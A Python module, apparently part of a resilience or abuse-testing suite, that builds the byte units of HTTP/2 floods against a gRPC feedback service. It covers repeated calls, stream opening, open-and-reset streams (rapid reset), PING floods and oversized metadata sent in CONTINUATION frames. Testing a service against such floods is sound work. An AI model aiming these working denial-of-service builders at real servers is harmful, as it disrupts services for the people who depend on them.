"""What a flood of HTTP/2 frames is made of: each function gives what makes the bytes of a unit from its number."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from abuse.connections import GET_FEEDBACK, STREAM_FEEDBACK, Target
from faults.http2_frames import END_HEADERS, END_STREAM, Frame, FrameType, grpc_message, headers

Unit = Callable[[int], bytes]
MakeUnit = Callable[[Target], Unit]

_CANCEL = struct.pack(">I", 8)
_METADATA_BYTES = 2**20
_VALUE_BYTES = 120
_FRAME_BYTES = 16_000


def _calling(target: Target, path: str) -> Unit:
    head, message = headers(1, target.fields(path)).payload, grpc_message(1, b"").payload

    def unit(number: int) -> bytes:
        stream = 2 * number + 1
        begin = Frame(FrameType.HEADERS, END_HEADERS, stream, head).encoded()
        return begin + Frame(FrameType.DATA, END_STREAM, stream, message).encoded()

    return unit


def asking(target: Target) -> Unit:
    """Ask for the feedback."""
    return _calling(target, GET_FEEDBACK)


def opening(target: Target) -> Unit:
    """Open a stream of feedback."""
    return _calling(target, STREAM_FEEDBACK)


def opening_and_resetting(target: Target) -> Unit:
    """Open a stream and take it back at once."""
    opened = opening(target)
    return lambda number: opened(number) + Frame(FrameType.RST_STREAM, 0, 2 * number + 1, _CANCEL).encoded()


def pinging(_target: Target) -> Unit:
    """Ping."""
    return lambda number: Frame(FrameType.PING, 0, 0, struct.pack(">Q", number)).encoded()


def with_large_metadata(target: Target) -> Unit:
    """Open a stream with 1 MiB of metadata."""
    more = [(f"x-{number}", "x" * _VALUE_BYTES) for number in range(_METADATA_BYTES // _VALUE_BYTES)]
    block = headers(1, [*target.fields(STREAM_FEEDBACK), *more]).payload
    parts = [block[at : at + _FRAME_BYTES] for at in range(0, len(block), _FRAME_BYTES)]

    def frames(stream: int) -> Iterator[Frame]:
        yield Frame(FrameType.HEADERS, 0, stream, parts[0])
        for part in parts[1:-1]:
            yield Frame(FrameType.CONTINUATION, 0, stream, part)
        yield Frame(FrameType.CONTINUATION, END_HEADERS, stream, parts[-1])

    return lambda number: b"".join(frame.encoded() for frame in frames(2 * number + 1))
